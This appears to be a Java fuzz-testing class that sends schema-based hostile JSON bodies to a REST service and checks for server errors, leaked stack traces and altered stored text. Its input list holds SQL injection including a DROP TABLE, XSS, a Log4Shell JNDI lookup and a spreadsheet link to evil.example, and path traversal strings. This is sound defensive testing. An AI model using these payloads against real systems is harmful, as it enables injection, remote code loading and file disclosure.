package org.neiqin.testing;

import java.net.http.HttpResponse;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * Generated hostile input for every operation of the REST description that takes a JSON body: a plausible body made
 * from the operation's schema (each field a value of its type, format and choices), then one field at a time given a
 * hostile value (wrong types, numbers as dates, impossible dates, huge and empty texts, control and bidi characters,
 * markup, SQL and JPQL fragments, spreadsheet formulas, numbers past every column's edge), and whole bodies that are
 * not the object asked for (deep and huge JSON, broken JSON, a scalar, an array). Every answer must be below 500 and
 * free of stack traces and SQL; a text the server kept must come back as it was sent. The one 5xx taken is 503
 * {@code busy} with {@code Retry-After}: requests go four at a time, and two writes that lock each other in the
 * database get that answer (nothing changed); {@link Result#busy()} counts them.
 */
public final class Fuzz {
    private static final JsonNodeFactory F = JsonNodeFactory.instance;
    /** What an answer must never show: a stack trace, a driver's or the ORM's words. */
    private static final List<String> LEAKS = List.of("Exception", "\tat ", "org.hibernate", "SQLState", "java.lang",
            "org.apache", "PSQLException", "ERROR: ", "Derby");
    private static final String ID = "987654321";

    /**
     * @param requests how many were sent
     * @param byOperation for each operation, how many answers of each status
     * @param problems each answer that broke a rule: a 5xx, a leak, a text not kept as sent
     * @param busy the operations answered 503 {@code busy} with {@code Retry-After} (writes sent four at a time that
     *        locked each other in the database: nothing changed, the client sends it again), once per answer
     */
    public record Result(int requests, Map<String, Map<Integer, Integer>> byOperation, List<String> problems,
            List<String> busy) {
    }

    private Fuzz() {
    }

    /** The hostile texts: each must be refused with 400 or kept exactly (trimmed of outer spaces at most). */
    static List<String> texts() {
        return List.of("", " ", "x".repeat(100_000), "\u0000", "a\u0000b", "\u0007bell", "\u202Eevil\u202C", "\u200F\u200E",
                "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' OR '1'='1", "'; DROP TABLE CRM_CUSTOMER; --",
                "select c from CustomerEntity c", "\") or 1=1 --", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3",
                "@SUM(A1:A9)", "${jndi:ldap://evil.example/a}", "%s%n%x", "１２３", "😀😀", "\uD83D", "null", "true",
                "2026-02-30", "9999-12-31", "0000-01-01", "-1", "1e309", "0.000000001", "99999999999999999999.99",
                "NOT_A_CHOICE", "new", "\t\n\r", "ＣＮＹ", "../../etc/passwd", "C:\\Windows\\win.ini");
    }

    /** The hostile values of any type, as JSON. */
    static List<JsonNode> values() {
        List<JsonNode> out = new ArrayList<>();
        texts().forEach(t -> out.add(F.textNode(t)));
        out.add(F.nullNode());
        out.add(F.numberNode(0));
        out.add(F.numberNode(-1));
        out.add(F.numberNode(Long.MAX_VALUE));
        out.add(F.numberNode(new java.math.BigInteger("9223372036854775808")));
        out.add(F.numberNode(new java.math.BigDecimal("1e400")));
        out.add(F.numberNode(new java.math.BigDecimal("-0.0000000001")));
        out.add(F.numberNode(20261207));
        out.add(F.numberNode(1.5));
        out.add(F.booleanNode(true));
        out.add(F.arrayNode());
        out.add(F.objectNode());
        ArrayNode many = F.arrayNode();
        for (int i = 0; i < 5_000; i++) {
            many.add(F.objectNode());
        }
        out.add(many);
        return out;
    }

    /** Bodies that are not the object an operation takes. */
    static List<String> bodies() {
        String deep = "[".repeat(20_000) + "]".repeat(20_000);
        String deepObject = "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000);
        return List.of("", "null", "[]", "\"text\"", "42", "{", "{\"a\":}", "{\"a\":1,\"a\":2}", "\uFEFF{}", deep, deepObject,
                "{\"x\":\"" + "y".repeat(3_000_000) + "\"}", "[" + "1,".repeat(200_000) + "1]");
    }

    /**
     * Sends {@code total} generated requests (or a little more: every operation gets the whole bodies at least) as
     * {@code user}, four at a time.
     */
    public static Result rest(String openapi, String user, int total, long seed) {
        JsonNode doc = Json.parse(openapi);
        List<String[]> operations = new ArrayList<>();
        Iterator<Map.Entry<String, JsonNode>> paths = doc.get("paths").fields();
        while (paths.hasNext()) {
            Map.Entry<String, JsonNode> path = paths.next();
            path.getValue().fields().forEachRemaining(op -> {
                if (op.getValue().path("requestBody").path("content").has("application/json")) {
                    operations.add(new String[] {op.getKey().toUpperCase(java.util.Locale.ROOT), path.getKey()});
                }
            });
        }
        Random random = new Random(seed);
        List<JsonNode> values = values();
        List<String> bodies = bodies();
        Map<String, Map<Integer, Integer>> byOperation = new ConcurrentHashMap<>();
        List<String> problems = new CopyOnWriteArrayList<>();
        List<String> busyAnswers = new CopyOnWriteArrayList<>();
        List<java.util.concurrent.Callable<Void>> sends = new ArrayList<>();
        int each = Math.max(bodies.size(), total / Math.max(1, operations.size()));
        for (String[] op : operations) {
            String name = op[0] + " " + op[1];
            JsonNode schema = doc.at("/paths/" + op[1].replace("~", "~0").replace("/", "~1") + "/" + op[0].toLowerCase(
                    java.util.Locale.ROOT) + "/requestBody/content/application~1json/schema");
            ObjectNode plausible = plausible(doc, schema, 0) instanceof ObjectNode o ? o : F.objectNode();
            String first = firstId(op[1], user);
            overlayRecord(plausible, op, user, first);
            List<String> fields = new ArrayList<>();
            plausible.fieldNames().forEachRemaining(fields::add);
            String address = "/neiqin/api" + op[1].replaceFirst("\\{[^}]+}", first).replaceAll("\\{[^}]+}", "1");
            for (int i = 0; i < each; i++) {
                String body;
                String field = null;
                JsonNode value = null;
                if (i < bodies.size()) {
                    body = bodies.get(i);
                } else if (i == bodies.size() || fields.isEmpty()) {
                    body = plausible.toString();
                } else {
                    ObjectNode mutated = plausible.deepCopy();
                    field = fields.get(random.nextInt(fields.size()));
                    value = values.get(random.nextInt(values.size()));
                    mutated.set(field, value);
                    body = halfPairsEscaped(mutated.toString());
                }
                String sentField = field;
                JsonNode sentValue = value;
                // a record that does not exist as well as the first: the checks before and after the lookup
                String to = random.nextInt(4) == 0 ? address.replace("/" + first + "/", "/" + ID + "/")
                        .replaceAll("/" + first + "$", "/" + ID) : address;
                sends.add(() -> {
                    HttpResponse<String> answer = Http.as(user).send(op[0], to, "application/json", body);
                    byOperation.computeIfAbsent(name, k -> new ConcurrentHashMap<>()).merge(answer.statusCode(), 1,
                            Integer::sum);
                    String sent = body.length() > 120 ? body.substring(0, 120) + "… (" + body.length() + " chars)" : body;
                    // the database's answer to two writes locking each other (a deadlock's victim): 503 busy with
                    // Retry-After, nothing changed, "send it again" -- counted, not a fault of the input
                    boolean busy = answer.statusCode() == 503 && answer.body().contains("\"code\":\"busy\"")
                            && answer.headers().firstValue("Retry-After").isPresent();
                    if (busy) {
                        busyAnswers.add(name);
                    } else if (answer.statusCode() >= 500) {
                        problems.add(name + " " + answer.statusCode() + " for " + sent + ": " + cut(answer.body()));
                    }
                    for (String leak : LEAKS) {
                        if (answer.body().contains(leak)) {
                            problems.add(name + " shows '" + leak.trim() + "' for " + sent + ": " + cut(answer.body()));
                        }
                    }
                    if (answer.statusCode() / 100 == 2 && sentValue != null && sentValue.isTextual()) {
                        JsonNode kept = Json.parse(answer.body()).path(sentField);
                        if (kept.isTextual() && !kept.asText().equals(sentValue.asText().strip())
                                && !kept.asText().equals(sentValue.asText())) {
                            problems.add(name + " kept " + sentField + " as '" + cut(kept.asText()) + "', sent '"
                                    + cut(sentValue.asText()) + "'");
                        }
                    }
                    return null;
                });
            }
        }
        Together.run(sends, 4);
        Map<String, Map<Integer, Integer>> sorted = new TreeMap<>();
        byOperation.forEach((k, v) -> sorted.put(k, new TreeMap<>(v)));
        return new Result(sends.size(), sorted, List.copyOf(problems), List.copyOf(busyAnswers));
    }

    /**
     * Takes what a record the operation works on holds, where the body asks for it: a change ({@code PUT …/{id}})
     * gets the record's own fields ({@code version}, {@code data}), a creation ({@code POST} on a list) the first
     * record's {@code data}, so that the body is one the service takes and a hostile value reaches the store.
     */
    /** @return the id of the first record of the list the path's first id is taken from ("1" when it has none) */
    private static String firstId(String path, String user) {
        int brace = path.indexOf('{');
        if (brace < 0) {
            return "1";
        }
        HttpResponse<String> list = Http.as(user).get("/neiqin/api" + path.substring(0, brace - 1) + "?limit=1");
        if (list.statusCode() != 200) {
            return "1";
        }
        JsonNode answer = Json.parse(list.body());
        JsonNode items = answer.isArray() ? answer : answer.path("items");
        return items.isArray() && items.size() > 0 && items.get(0).has("id") ? items.get(0).get("id").asText() : "1";
    }

    private static void overlayRecord(ObjectNode body, String[] op, String user, String first) {
        String path = op[1];
        String record = op[0].equals("PUT") && path.endsWith("}") ? path : op[0].equals("POST") && !path.contains("{")
                ? path + "/{id}" : null;
        if (record == null) {
            return;
        }
        String id = op[0].equals("PUT") ? first : firstId(record, user);
        HttpResponse<String> answer = Http.as(user).get("/neiqin/api" + record.replaceFirst("\\{[^}]+}", id)
                .replaceAll("\\{[^}]+}", "1"));
        if (answer.statusCode() != 200 || !answer.body().startsWith("{")) {
            return;
        }
        JsonNode view = Json.parse(answer.body());
        JsonNode source = op[0].equals("PUT") ? view : view.path("data");
        List<String> names = new ArrayList<>();
        body.fieldNames().forEachRemaining(names::add);
        for (String name : names) {
            if (source.has(name) && !source.get(name).isNull()) {
                body.set(name, source.get(name));
            }
        }
    }

    /**
     * @return the JSON with each lone UTF-16 surrogate written as its {@code \\uXXXX} escape: sent raw, UTF-8 cannot
     *         carry one (the client's encoder would send a '?'), escaped it reaches the server as the attack means
     */
    static String halfPairsEscaped(String json) {
        StringBuilder out = new StringBuilder(json.length());
        for (int i = 0; i < json.length(); i++) {
            char c = json.charAt(i);
            if (Character.isHighSurrogate(c) && i + 1 < json.length() && Character.isLowSurrogate(json.charAt(i + 1))) {
                out.append(c).append(json.charAt(++i));
            } else if (Character.isSurrogate(c)) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.toString();
    }

    private static String cut(String s) {
        return s.length() > 200 ? s.substring(0, 200) + "…" : s;
    }

    /** @return a value of the schema's type, format and choices (a first record, today, the first choice) */
    static JsonNode plausible(JsonNode doc, JsonNode schema, int depth) {
        if (schema.has("$ref")) {
            return plausible(doc, doc.at(schema.get("$ref").asText().substring(1)), depth);
        }
        if (schema.has("allOf")) {
            return plausible(doc, schema.get("allOf").get(0), depth);
        }
        if (schema.has("enum")) {
            return schema.get("enum").get(0);
        }
        String type = schema.path("type").asText("object");
        String format = schema.path("format").asText("");
        String pattern = schema.path("pattern").asText("");
        switch (type) {
            case "integer":
                return F.numberNode(1);
            case "number":
                return F.numberNode(1);
            case "boolean":
                return F.booleanNode(false);
            case "array": {
                ArrayNode a = F.arrayNode();
                if (depth < 3 && schema.has("items")) {
                    a.add(plausible(doc, schema.get("items"), depth + 1));
                }
                return a;
            }
            case "string":
                if (format.equals("date")) {
                    return F.textNode(LocalDate.now().toString());
                }
                if (format.equals("date-time")) {
                    return F.textNode(java.time.Instant.now().toString());
                }
                if (pattern.contains("@")) {
                    return F.textNode("li.na@example.cn");
                }
                if (pattern.contains("0-9+()")) {
                    return F.textNode("024-2345 6789");
                }
                if (pattern.contains("https?")) {
                    return F.textNode("example.cn");
                }
                return F.textNode(format.isEmpty() && pattern.isEmpty() ? "试 fuzz" : "1");
            default: {
                ObjectNode o = F.objectNode();
                if (depth < 4) {
                    schema.path("properties").fields().forEachRemaining(p -> o.set(p.getKey(), plausible(doc, p.getValue(),
                            depth + 1)));
                }
                return o;
            }
        }
    }
}
